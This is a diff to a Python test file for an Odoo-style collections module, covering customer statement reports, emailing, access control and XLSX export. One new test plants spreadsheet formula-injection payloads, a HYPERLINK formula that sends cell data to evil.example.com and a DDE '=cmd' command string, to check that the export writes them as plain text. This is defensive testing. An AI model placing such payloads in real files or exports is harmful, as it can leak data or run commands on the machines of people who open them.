@@ -229,7 +229,11 @@ class TestStatement(OtcCreditCommon):
         html, _report_type = (
             self.env["ir.actions.report"]
             .with_user(self.clerk)
-            ._render_qweb_pdf("otc_collections.action_report_otc_statement", wizard.ids)
+            ._render_qweb_pdf(
+                "otc_collections.action_report_otc_statement",
+                wizard.partner_id.ids,
+                data=wizard._report_data(),
+            )
         )
         html = html.decode()
         for text in (
@@ -245,11 +249,14 @@ class TestStatement(OtcCreditCommon):
     def test_send_by_email(self):
         wizard = self.wizard(user=self.clerk)
         wizard.action_send_email()
+        # The email is the customer's (the template is on res.partner).
         mail = self.env["mail.mail"].search(
-            [("model", "=", wizard._name), ("res_id", "=", wizard.id)]
+            [("model", "=", "res.partner"), ("res_id", "=", self.customer.id)]
         )
         self.assertEqual(len(mail), 1)
         self.assertEqual(mail.recipient_ids, self.customer)
+        self.assertIn("statement of account to", mail.subject)
+        self.assertIn(self.company.name, mail.subject)
         self.assertEqual(len(mail.attachment_ids), 1)
         self.assertTrue(mail.attachment_ids.name.startswith("Statement - "))
         self.assertIn("Statement of account", self.customer.message_ids[0].body)
@@ -282,7 +289,13 @@ class TestStatement(OtcCreditCommon):
             [("partner_id", "=", self.customer.id)]
         )
         self.assertEqual(len(comm), 1)
+        wizards = self.env["otc.statement.wizard"].search_count([])
         comm.with_user(self.collector).action_send()
+        self.assertEqual(
+            self.env["otc.statement.wizard"].search_count([]),
+            wizards,
+            "the statement comes from the report, no wizard is created",
+        )
         mail = self.env["mail.mail"].search(
             [("model", "=", comm._name), ("res_id", "=", comm.id)]
         )
@@ -294,3 +307,61 @@ class TestStatement(OtcCreditCommon):
     def test_salesman_cannot_use_statements(self):
         with self.assertRaises(AccessError):
             self.wizard(user=self.salesman)
+
+    def test_statement_is_a_report_on_the_customer(self):
+        """One entry point renders the statement of a customer (a contact
+        gives its commercial entity), as PDF or XLSX, with the wizard's
+        figures."""
+        report = self.env["report.otc_collections.report_otc_statement"].with_user(
+            self.clerk
+        )
+        start, end = self.today - timedelta(60), self.today
+        html, filename = report._otc_render(
+            self.contact, self.company, start, end, "pdf"
+        )
+        self.assertTrue(filename.startswith("Statement - Credit Customer"))
+        html = html.decode()
+        for text in ("Opening Balance", self.inv_c.name, self.pay_1.move_id.name):
+            self.assertIn(text, html)
+        content, filename = report._otc_render(
+            self.customer, self.company, start, end, "xlsx"
+        )
+        self.assertTrue(filename.endswith(".xlsx"))
+        rows = list(load_workbook(io.BytesIO(content)).worksheets[0].values)
+        closing = next(row for row in rows if "Closing Balance" in row)
+        self.assertEqual(closing[6], self.wizard()._statement_data()["closing_balance"])
+        action = self.wizard(user=self.clerk).action_print()
+        self.assertEqual(action["context"]["active_ids"], self.customer.ids)
+        self.assertEqual(action["data"]["date_to"], str(self.today))
+        with self.assertRaises(AccessError):
+            report.with_user(self.salesman)._otc_statement_data(
+                self.customer, self.company, start, end
+            )
+        template = self.env.ref("otc_collections.mail_template_otc_statement")
+        self.assertEqual(template.model, "res.partner")
+        self.assertEqual(
+            self.env.ref("otc_collections.action_report_otc_statement").model,
+            "res.partner",
+        )
+
+    def test_xlsx_writes_text_as_text(self):
+        """A customer named like a formula, and payers' references, come out
+        of the statement export as text."""
+        name = '=HYPERLINK("http://evil.example.com/?d="&A1,"Click")'
+        self.customer.name = name
+        self.inv_c.ref = "=cmd|' /C calc'!A0"
+        wizard = self.wizard(user=self.clerk)
+        wizard.action_export_xlsx()
+        book = load_workbook(io.BytesIO(base64.b64decode(wizard.file)))
+        cells = [
+            cell
+            for sheet in book.worksheets
+            for row in sheet.iter_rows()
+            for cell in row
+        ]
+        self.assertFalse(
+            [c.coordinate for c in cells if c.data_type == "f" or c.hyperlink]
+        )
+        texts = {c.value for c in cells if c.data_type == "s"}
+        self.assertIn(name, texts)
+        self.assertIn("=cmd|' /C calc'!A0", texts)
